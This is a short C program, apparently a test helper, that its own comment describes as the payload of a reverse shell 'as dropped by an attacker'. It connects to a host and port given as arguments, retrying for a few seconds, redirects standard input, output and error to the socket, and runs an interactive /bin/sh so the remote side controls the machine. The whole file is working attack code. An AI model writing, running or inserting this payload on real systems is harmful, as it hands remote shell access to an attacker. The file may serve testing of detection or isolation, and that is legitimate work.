// SPDX-License-Identifier: GPL-2.0
/*
 * revshell HOST PORT [SHELL]: the payload of a reverse shell, as dropped by
 * an attacker: connect to HOST:PORT (IPv4), put the socket on fds 0-2 and
 * exec SHELL -i (default /bin/sh), so the remote side drives the shell.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	const char *shell = argc > 3 ? argv[3] : "/bin/sh";
	struct sockaddr_in sa;
	int s, tries;

	if (argc < 3) {
		fprintf(stderr, "usage: revshell HOST PORT [SHELL]\n");
		return 2;
	}
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)atoi(argv[2]));
	if (inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1) {
		fprintf(stderr, "revshell: bad address %s\n", argv[1]);
		return 2;
	}
	/* The listener may still be starting: retry for about 5 s. */
	for (tries = 0;; tries++) {
		s = socket(AF_INET, SOCK_STREAM, 0);
		if (s < 0) {
			perror("revshell: socket");
			return 1;
		}
		if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) == 0)
			break;
		close(s);
		if (tries >= 50) {
			perror("revshell: connect");
			return 1;
		}
		usleep(100000);
	}
	if (dup2(s, 0) < 0 || dup2(s, 1) < 0 || dup2(s, 2) < 0) {
		perror("revshell: dup2");
		return 1;
	}
	if (s > 2)
		close(s);
	execl(shell, "sh", "-i", (char *)NULL);
	perror("revshell: exec");
	return 127;
}
